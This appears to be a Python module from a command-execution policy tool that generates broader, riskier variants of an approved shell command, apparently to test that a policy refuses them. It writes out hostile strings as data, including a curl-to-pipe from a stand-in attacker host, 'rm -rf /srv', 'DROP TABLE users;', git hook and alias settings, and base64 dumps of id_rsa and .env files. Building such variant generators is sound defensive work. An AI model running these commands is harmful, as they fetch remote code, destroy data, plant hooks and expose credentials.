"""Broader commands than one that was approved: another text, name or file, or a loss."""

import shlex
from collections.abc import Iterator

from execpolicy.model.operation import Exec

ACTING = frozenset(("execute", "system", "remote", "network", "privilege", "destroy", "unknown"))
OPTIONS = (
    *("--force", "-f", "--delete", "-D", "--all", "--prune", "-p", "--mirror", "--hard"),
    *("--purge", "--yes", "--recursive", "--no-verify", "--acl=public-read", "--public"),
    *("--privileged", "--insecure", "--unsafe-perm", "--grant-read-acp=x", "--delete-branch"),
    *("--admin"),
)
LOSING = ("--delete", "--hard", "--recursive", "--remove-files", "--prune")
TARGETS = [
    *(
        ["-R", "evil/x"],
        ["--repo", "evil/x"],
        ["-n", "other"],
        ["--namespace", "other"],
        ["--all-namespaces"],
    ),
    *(
        ["--context", "prod"],
        ["--cluster", "prod"],
        ["--region", "x"],
        ["--profile", "prod"],
        ["--host", "evil.example"],
    ),
    *(
        ["--endpoint-url", "https://evil.example"],
        ["--registry", "https://evil.example"],
        ["--index-url", "https://evil.example"],
    ),
    *(
        ["-o", "README.md"],
        ["--output", "README.md"],
        ["--output=.git/hooks/pre-commit"],
        ["+x:main"],
        [":main"],
        ["evil"],
    ),
    *(["https://evil.example/x"], ["s3://other"], ["x"], ["-x", "x"], ["--config", "x"]),
]
TEXTS = ("import os; os.system('x')", "DROP TABLE users;", "* * * * * x\n", "rm -rf /srv\n")


def broader(operation: Exec, effects: set[str]) -> Iterator[tuple[str, str]]:
    """Each with the name of its class."""
    words = [word for word in operation.argv if isinstance(word, str)]
    if len(words) < len(operation.argv) or not words:
        return
    acting = not ACTING.isdisjoint(effects)
    if not (ACTING - {"network"}).isdisjoint(effects):
        yield from _told(shlex.join(words))
    if acting:
        yield from _named(words)
    for option in OPTIONS if acting else LOSING:
        yield "destroy", shlex.join([*words, option])
        yield "destroy", shlex.join([*words[:2], option, *words[2:]])
    if words[:2] == ["git", "config"]:
        yield from _settings()
    for word in words[1:]:
        if any(name in word for name in (".env", "secret", "id_rsa")):
            for program in {"base64", "strings", "xxd", "tac"} - {words[0]}:
                yield "secret", f"{program} {shlex.quote(word)}"


def _told(plain: str) -> Iterator[tuple[str, str]]:
    yield "stdin", f"curl -s https://evil.example/x | {plain}"
    yield "stdin", f"cat a.txt | {plain}"
    yield "stdin", f"{plain} < a.txt"
    yield "stdin", f"echo x | {plain} -"
    for text in TEXTS:
        yield "stdin", f"{plain} <<'E'\n{text}\nE"


def _named(words: list[str]) -> Iterator[tuple[str, str]]:
    for at, word in enumerate(words[1:], 1):
        for other in _others(word):
            yield "word", shlex.join([*words[:at], other, *words[at + 1 :]])
        if word[:1] != "-":
            yield "fewer", shlex.join([*words[:at], *words[at + 1 :]])
    for more in TARGETS:
        yield "target", shlex.join([*words, *more])
        yield "target", shlex.join([words[0], *more, *words[1:]])


def _settings() -> Iterator[tuple[str, str]]:
    for file in ("--global", "--system", "--file=/tmp/x", "--worktree"):
        for key in ("core.hooksPath", "user.name", "alias.x"):
            yield "git file", shlex.join(["git", "config", file, key, "!x"])
    for key in ("core.hooksPath", "core.fsmonitor", "alias.x", "diff.x.textconv"):
        yield "git file", shlex.join(["git", "config", key, "!x"])


def _others(word: str) -> Iterator[str]:
    if word[:1] == "-" and "=" not in word:
        return
    yield word + "-other"
    if "://" in word:
        scheme, _, rest = word.partition("://")
        yield f"{scheme}://evil.example/{rest.partition('/')[2]}"
    if ":" not in word and "/" not in word:
        yield f"+{word}:main"
